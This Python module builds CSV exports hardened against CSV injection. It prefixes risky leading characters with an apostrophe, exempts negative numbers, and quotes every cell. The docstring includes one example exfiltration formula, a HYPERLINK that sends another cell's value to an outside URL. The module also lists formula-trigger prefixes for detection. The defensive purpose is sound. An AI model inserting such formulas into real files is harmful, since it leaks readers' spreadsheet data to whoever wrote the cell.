"""CSV that a spreadsheet opens as text, never as formulas.

Every CSV the product writes holds values a client sent (actor ids, party ids, reasons),
and a spreadsheet runs a cell that starts with `=`, `+`, `-` or `@` as a formula: one
cell such as `=HYPERLINK("http://…/?leak="&A2, "open")` sends the sheet's other cells to
whoever wrote it the moment a reader clicks, and older tools run DDE commands. Following
OWASP's guidance on CSV injection, such a cell, and one starting with a tab or a carriage
return (which OWASP lists too, as ways around filters that look at the first character
only), is written with a leading apostrophe, which spreadsheets read as "this is text".

A negative number (`-12`, `-0.5`) is left as it is: it holds only a sign, digits and one
point, so no function, reference or command can be spelled in it, and a spreadsheet reads
it as the number it is. Every cell is also quoted, so a spreadsheet that splits on another
separator (`;` in many locales) still sees each cell whole and cannot start a new cell,
unescaped, in the middle of a value.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
"""First characters that make a spreadsheet read a cell as a formula (OWASP)."""

_NEGATIVE_NUMBER = re.compile(r"-[0-9]+(\.[0-9]+)?")


def spreadsheet_safe_cell(value: object) -> str:
    """One CSV cell as text a spreadsheet will not run: None is empty, anything else its
    `str`, with an apostrophe before it when it would start a formula."""
    text = "" if value is None else str(value)
    if text.startswith(FORMULA_PREFIXES) and not _NEGATIVE_NUMBER.fullmatch(text):
        return "'" + text
    return text


def spreadsheet_safe_csv(rows: Iterable[Iterable[object]]) -> str:
    """CSV text of `rows` (the header first, if any), every cell passed through
    `spreadsheet_safe_cell` and quoted, lines ended by `\\n`.

    Use it for every CSV the product offers for download, so that no value a client sent
    can run as a formula in the spreadsheet of whoever opens the file.
    """
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n", quoting=csv.QUOTE_ALL)
    writer.writerows([spreadsheet_safe_cell(value) for value in row] for row in rows)
    return out.getvalue()
